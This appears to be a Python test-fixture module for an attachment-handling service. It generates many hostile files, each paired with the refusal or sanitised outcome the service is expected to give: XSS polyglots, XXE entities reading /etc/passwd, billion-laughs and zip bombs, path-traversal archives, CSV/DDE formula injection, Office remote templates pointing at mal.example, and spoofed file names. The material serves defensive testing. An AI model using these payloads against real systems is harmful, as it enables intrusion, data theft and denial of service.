"""Files that were made to hurt whoever takes them, shows them or opens them: made here, kept nowhere."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from attachments.refusals import Refusal
from tests.attachments import samples

TAMED = "tamed"
SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body onload=alert(1)>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XSLT = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><a><xsl:stylesheet id="x" version="1.0" '
    b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>alert(1)</script>'
    b"</xsl:template></xsl:stylesheet></a>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    + HTML
)
# Names a file of the machine that would play it.
HLS = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
CONCAT = b"ffconcat version 1.0\nfile 'file:///etc/passwd'\nfile 'concat:http://mal.example/h|file:///etc/passwd'\n"
DASH = b'<?xml version="1.0"?><MPD><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>'
XSPF = b'<?xml version="1.0"?><playlist><track><location>file:///etc/passwd</location></track></playlist>'
ASX = b'<asx version="3.0"><entry><ref href="file:///etc/passwd"/></entry></asx>'
PLS = b"[playlist]\nFile1=file:///etc/passwd\nNumberOfEntries=1\n"
# The two halves are joined when the test runs: scanners of the machine that holds this source must not find it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PDF_SCRIPT = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF\n"
)
CSV = b'nome;valor\n=cmd|\'/c calc\'!A1;1\n+1+1;@SUM(A1)\n-2;"=HYPERLINK(""http://mal.example"")"\n'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """One file: the name it comes by, its bytes, and what is to become of it: a refusal, or tamed."""

    name: str
    make: Callable[[], bytes]
    fate: str


def _office(folder: str, **parts: bytes) -> bytes:
    return samples.zip_of({"[Content_Types].xml": b"<Types/>", f"{folder}/document.xml": b"<w/>", **parts})


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def _nested(depth: int, data: bytes) -> bytes:
    for number in range(depth):
        data = samples.zip_of({f"{number}-{copy}.zip": data for copy in range(4)})
    return data


def _overlapping(count: int) -> bytes:
    """Return a ZIP whose entries all lie at one place: of few bytes as many as one likes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(bytes(8 * 1024**2)) + packed.flush()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(body), 8 * 1024**2, 1, 0) + b"a" + body
    entries = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(body), 8 * 1024**2, 4, 0, 0, 0, 0, 0, 0)
        + b"%04d" % number
        for number in range(count)
    )
    return local + entries + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), len(local), 0)


def named_zip(*names: str, link: str = "") -> bytes:
    """Return a ZIP of these names as they are, whatever they climb to; one of them a link to elsewhere."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            if name == link:
                entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, b"/etc/passwd")
    return buffer.getvalue()


def _long_names() -> bytes:
    """Return a ZIP whose directory is as large as any may be: names that take four bytes a sign in memory."""
    entry = struct.Struct("<4s6H3L5H2L")
    name = b"\xf0\x9f\x98\x80" + b"a/" * 32_000
    one = entry.pack(b"PK\x01\x02", 20, 20, 0x800, 0, 0, 0, 0, 9, 9, len(name), 0, 0, 0, 0, 0, 0) + name
    count = 8 * 1024**2 // len(one)
    body = b"PK\x03\x04" + bytes(60)
    return (
        body + one * count + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(one) * count, len(body), 0)
    )


def _padded_entity() -> bytes:
    """Return an entity behind more blanks than are looked at."""
    return _office("word", **{"word/x.xml": b"<?xml version='1.0'?>" + b" " * 300_000 + XXE.partition(b"?>")[2]})


def _apng(frames: int, width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"acTL", struct.pack(">2L", frames, 0))
        + chunk(b"IDAT", bytes(20)) + chunk(b"IEND", b"")
    )  # fmt: skip


def _gif(frames: int, canvas: int, frame: int = 1) -> bytes:
    """Return an animation of this many frames, each of a few bytes."""
    head = b"GIF89a" + struct.pack("<2H", canvas, canvas) + b"\x80\x00\x00" + bytes(6)
    one = b"," + struct.pack("<4H", 0, 0, frame, frame) + b"\x00\x02\x02\x44\x01\x00"
    return head + one * frames + b";"


def _webp(frames: int, canvas: int) -> bytes:
    size = (canvas - 1).to_bytes(3, "little")
    body = b"VP8X" + struct.pack("<L", 10) + b"\x02\x00\x00\x00" + size + size
    body += b"ANIM" + struct.pack("<L", 6) + bytes(6)
    body += (b"ANMF" + struct.pack("<L", 24) + bytes(24)) * frames
    return b"RIFF" + struct.pack("<L", len(body) + 4) + b"WEBP" + body


def _jpeg_of(width: int, height: int, segments: int = 0) -> bytes:
    padding = b"\xff\xe1\x00\x02" * segments
    return b"\xff\xd8" + padding + b"\xff\xc0\x00\x11\x08" + struct.pack(">2H", height, width) + b"\x03" + bytes(9)


def _tar() -> bytes:
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        entry = tarfile.TarInfo("../../etc/cron.d/x")
        entry.size = 3
        archive.addfile(entry, io.BytesIO(b"abc"))
    return buffer.getvalue()


def _locked() -> bytes:
    return samples.claiming_zip(size=100).replace(
        struct.pack("<4s3H", b"PK\x01\x02", 45, 45, 0), struct.pack("<4s3H", b"PK\x01\x02", 45, 45, 1)
    )


def _wrapped_gzip() -> bytes:
    """Return a gzip of many small ones behind each other, whose trailer tells of the last alone."""
    return gzip.compress(bytes(4 * 1024**2), mtime=0) * 64 + gzip.compress(b"x", mtime=0)


def _all_of(value: bytes) -> Callable[[], bytes]:
    return lambda: value


_PLAYLISTS = {"m3u8": HLS, "ffconcat": CONCAT, "mpd": DASH, "xspf": XSPF, "asx": ASX, "pls": PLS}
POLYGLOTS: tuple[Hostile, ...] = (
    # A picture that is a script as well: alert(1) after a header that assigns.
    Hostile("tela.gif", _all_of(b"GIF89a/*\x01\x00" + bytes(20) + b"*/=1;alert(1)//"), TAMED),
    Hostile("gifar.gif", lambda: samples.picture("GIF") + samples.zip_of({"A.class": samples.EXE}), TAMED),
    Hostile("pagina.png", lambda: samples.picture("PNG") + HTML, TAMED),
    Hostile("foto.jpg", lambda: samples.picture("JPEG") + b"<?php system($_GET[0]);?>" + HTML, TAMED),
    Hostile("video.mp4", lambda: samples.MP4 + HTML, TAMED),
    Hostile("video.mp4", lambda: samples.box(b"ftyp", b"isom" + HTML), TAMED),
    Hostile("nota.pdf", lambda: samples.PDF + samples.zip_of({"a.js": b"alert(1)"}), TAMED),
    Hostile("nota.zip", lambda: samples.PDF + samples.zip_of({"a.js": b"alert(1)"}), Refusal.OTHER_CONTENT),
    Hostile("nota.pdf", lambda: samples.EXE + samples.PDF, Refusal.OTHER_CONTENT),
    Hostile("instala.zip", lambda: samples.EXE + samples.zip_of({"a.log": b"a"}), Refusal.OTHER_CONTENT),
)
DISGUISED: tuple[Hostile, ...] = (
    *(Hostile(f"desenho.{end}", _all_of(SVG), Refusal.OTHER_CONTENT) for end in ("png", "jpg", "gif", "webp", "bmp")),
    *(Hostile(f"desenho.{end}", _all_of(SVG), Refusal.NOT_RECEIVED) for end in ("svg", "SVG", "svgz", "svg ", "svg.")),
    Hostile("desenho.svg\u200b", _all_of(SVG), Refusal.NOT_RECEIVED),
    Hostile("desenho.s\u00advg", _all_of(SVG), Refusal.NOT_RECEIVED),
    Hostile("desenho.\uff53\uff56\uff47", _all_of(SVG), Refusal.NOT_RECEIVED),
    Hostile("desenho.xml", _all_of(SVG), TAMED),
    Hostile("desenho.gz", lambda: gzip.compress(SVG, mtime=0), TAMED),
    *(
        Hostile(f"pagina.{end}", _all_of(HTML), Refusal.NOT_RECEIVED)
        for end in ("html", "htm", "xhtml", "shtml", "hta")
    ),
    Hostile("pagina.mht", _all_of(MHT), Refusal.NOT_RECEIVED),
    Hostile("pagina.eml", _all_of(MHT), Refusal.NOT_RECEIVED),
    Hostile("pagina.txt", _all_of(MHT), TAMED),
    Hostile("pagina.txt", _all_of(b"\xef\xbb\xbf" + HTML), TAMED),
    Hostile("pagina.txt", _all_of(HTML.decode().encode("utf-16")), TAMED),
    Hostile("pagina.log", _all_of(HTML.decode().encode("utf-16-be")), TAMED),
    Hostile("pagina.txt", _all_of(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), TAMED),
    Hostile("folha.xml", _all_of(XSLT), TAMED),
    Hostile("externo.xml", _all_of(XXE), TAMED),
    Hostile("risadas.xml", _all_of(LAUGHS), TAMED),
    Hostile("virus.txt", _all_of(EICAR), TAMED),
    Hostile("planilha.csv", _all_of(CSV), TAMED),
    Hostile("manual.pdf", _all_of(PDF_SCRIPT), TAMED),
    Hostile("pacote.tar", _tar, Refusal.NOT_RECEIVED),
    *(Hostile(f"pacote.{end}", _tar, Refusal.OTHER_CONTENT) for end in ("log", "zip", "gz", "png")),
)
PLAYLISTS: tuple[Hostile, ...] = (
    *(
        Hostile(f"video.{end}", _all_of(body), Refusal.OTHER_CONTENT)
        for body in _PLAYLISTS.values()
        for end in ("mp4", "webm", "mkv", "avi", "mov", "m4v")
    ),
    *(Hostile(f"lista.{end}", _all_of(body), Refusal.NOT_RECEIVED) for end, body in _PLAYLISTS.items()),
    Hostile("lista.txt", _all_of(HLS), TAMED),
)
NAMES: tuple[Hostile, ...] = tuple(
    Hostile(name, _all_of(samples.LOG), fate)
    for name, fate in (
        ("nota.pdf.exe", Refusal.NOT_RECEIVED),
        ("nota.log\u202egpj.exe", Refusal.NOT_RECEIVED),
        ("nota\u202egnp.log", TAMED),
        ("nota.exe\u200b.", Refusal.NOT_RECEIVED),
        ("nota.exe. . .", Refusal.NOT_RECEIVED),
        ("nota.log\x00.exe", Refusal.NOT_RECEIVED),
        ("nota.exe\x00.log", TAMED),
        ("nota.exe:$DATA.log", TAMED),
        ("nota.log:x.exe", Refusal.NOT_RECEIVED),
        ("../../../etc/cron.d/nota.log", TAMED),
        ("..\\..\\windows\\nota.log", TAMED),
        ("/etc/passwd.log", TAMED),
        ("C:\\nota.log", TAMED),
        ("CON.log", TAMED),
        ("aux.log", TAMED),
        ("LPT1.log", TAMED),
        ("nul", Refusal.NO_EXTENSION),
        ("a" * 5000 + ".log", TAMED),
        ("\N{PILE OF POO}" * 300 + ".log", TAMED),
        ("e\u0301" * 3000 + ".log", TAMED),
        ("nota\r\nSet-Cookie: a=b.log", TAMED),
        ('nota"; filename="x.html.log', TAMED),
        ("<img src=x onerror=alert(1)>.log", TAMED),
        ("=cmd|' /C calc'!A0.log", TAMED),
        (".htaccess", Refusal.NOT_RECEIVED),
        ("~$nota.log", TAMED),
        ("-rf.log", TAMED),
    )
)
FLOODS: tuple[Hostile, ...] = (
    Hostile("enchente.png", partial(samples.png_of, 2**31 - 1, 2**31 - 1), Refusal.TOO_MANY_PIXELS),
    Hostile("fita.png", partial(samples.png_of, 2**31 - 1, 1), Refusal.TOO_MANY_PIXELS),
    Hostile("enchente.jpg", partial(_jpeg_of, 65_535, 65_535), Refusal.TOO_MANY_PIXELS),
    Hostile("longo.jpg", partial(_jpeg_of, 10, 10, 500_000), Refusal.DAMAGED),
    Hostile("enchente.gif", partial(_gif, 1, 65_535), Refusal.TOO_MANY_PIXELS),
    Hostile("enchente.webp", partial(_webp, 1, 1 << 24), Refusal.TOO_MANY_PIXELS),
    Hostile(
        "enchente.bmp",
        lambda: b"BM" + bytes(12) + struct.pack("<L2i", 40, 50_000, -50_000) + bytes(40),
        Refusal.TOO_MANY_PIXELS,
    ),
    Hostile("quadros.png", partial(_apng, 2**31 - 1, 4000, 4000), Refusal.TOO_MANY_PIXELS),
    Hostile("quadros.gif", partial(_gif, 100_000, 8000), Refusal.TOO_MANY_PIXELS),
    Hostile("miudos.gif", partial(_gif, 1_000_000, 1), Refusal.TOO_MANY_PIXELS),
    Hostile("fora.gif", partial(_gif, 1, 1, 65_535), Refusal.TOO_MANY_PIXELS),
    Hostile("quadros.webp", partial(_webp, 60_000, 8000), Refusal.TOO_MANY_PIXELS),
    Hostile("animado.gif", partial(_gif, 600, 1000), TAMED),
)
ARCHIVES: tuple[Hostile, ...] = (
    Hostile("bomba.zip", samples.zip_bomb, Refusal.BOMB),
    Hostile("bomba.gz", samples.gzip_bomb, Refusal.BOMB),
    Hostile("sobrepostos.zip", partial(_overlapping, 2000), Refusal.BOMB),
    Hostile("muitos.zip", partial(samples.claiming_zip, size=1, count=70_000), Refusal.BOMB),
    Hostile("enorme.zip", partial(samples.claiming_zip, size=2**62), Refusal.BOMB),
    # Archives in archives are named and counted, never opened.
    Hostile("42.zip", partial(_nested, 5, b"x" * 1000), TAMED),
    Hostile("seguidos.gz", _wrapped_gzip, TAMED),
    Hostile("nomes.zip", _long_names, TAMED),
    Hostile("escapa.zip", partial(named_zip, "../../etc/x", "/etc/x", "C:\\x", "\\\\srv\\x", "a/../../x"), TAMED),
    Hostile("atalho.zip", partial(named_zip, "dentro", "fora", link="fora"), TAMED),
    Hostile("trancado.zip", _locked, TAMED),
    Hostile("cortado.zip", lambda: samples.zip_of({"a.log": samples.LOG})[:-30], Refusal.DAMAGED),
)
OFFICE: tuple[Hostile, ...] = (
    *(Hostile(f"nota.{end}", partial(_office, folder, **{f"{folder}/x.xml": XXE}), Refusal.REACHES_OUT)
      for end, folder in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt"))),
    Hostile("risadas.xlsx", partial(_office, "xl", **{"xl/sharedStrings.xml": LAUGHS}), Refusal.REACHES_OUT),
    Hostile("largo.docx", partial(_office, "word", **{"word/x.xml": XXE.decode().encode("utf-16")}),
            Refusal.REACHES_OUT),
    Hostile("fundo.docx", _padded_entity, Refusal.REACHES_OUT),
    *(
        Hostile("modelo.docx", partial(_office, "word", **{"word/_rels/settings.xml.rels": _related(kind, target)}),
                Refusal.REACHES_OUT)
        for kind, target in (
            ("attachedTemplate", "http://mal.example/x.dotm"),
            ("attachedTemplate", "\\\\mal.example\\x.dotm"),
            ("attachedTemplate", "file:///\\\\mal.example\\x.dotm"),
            ("attachedTemplate", "file://mal.example/x.dotm"),
            ("oleObject", "mhtml:http://mal.example/x.html!x-usc:http://mal.example/x.html"),
            ("frame", "https://mal.example/"),
            ("subDocument", " %68ttps://mal.example/"),
            ("aFChunk", "https://mal.example/x.html"),
        )
    ),
    Hostile("modelo.docx", partial(_office, "word", **{"word/_rels/settings.xml.rels": _related(
        "attachedTemplate", "file:///C:\\Users\\ana\\Normal.dotm")}), TAMED),
    Hostile("elo.docx", partial(_office, "word", **{"word/_rels/document.xml.rels": _related(
        "hyperlink", "https://aurora.example/")}), TAMED),
    Hostile("dde.docx", partial(_office, "word", **{"word/corpo.xml": b"<w:instrText>DD</w:instrText><w:instrText "
            b"a='b'>EAUTO c:\\\\cmd.exe</w:instrText>"}), Refusal.REACHES_OUT),
    Hostile("dde.xlsx", partial(_office, "xl", **{"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink "
            b"ddeService='cmd' ddeTopic='/c calc'/></externalLink>"}), Refusal.REACHES_OUT),
    Hostile("macro.docx", partial(_office, "word", **{"word/vbaProject.bin": b"x"}), Refusal.MACROS),
    Hostile("macro.docx", lambda: samples.zip_of({"[Content_Types].xml": b"<Types><Override PartName='/word/x.bin' "
            b"ContentType='application/vnd.ms-office.vbaProject'/></Types>", "word/document.xml": b"<w/>"}),
            Refusal.MACROS),
    Hostile("macro.xlsx", partial(_office, "xl", **{"xl/macrosheets/sheet1.xml": b"<x/>"}), Refusal.MACROS),
    Hostile("macro.xls", lambda: samples.ole_of("Workbook", "_VBA_PROJECT_CUR", "VBA"), Refusal.MACROS),
    Hostile("macro.doc", lambda: samples.ole_of("WordDocument", "Macros"), Refusal.MACROS),
    Hostile("bomba.docx", partial(_office, "word", **{"word/_rels/a.xml.rels": b"<a>" + bytes(60 * 1024**2)}),
            Refusal.BOMB),
    Hostile("mente.docx", lambda: _office("word").replace(b"PK\x03\x04", b"PK\x03\x05"), Refusal.OTHER_CONTENT),
)  # fmt: skip
EVERY = (*POLYGLOTS, *DISGUISED, *PLAYLISTS, *NAMES, *FLOODS, *ARCHIVES, *OFFICE)
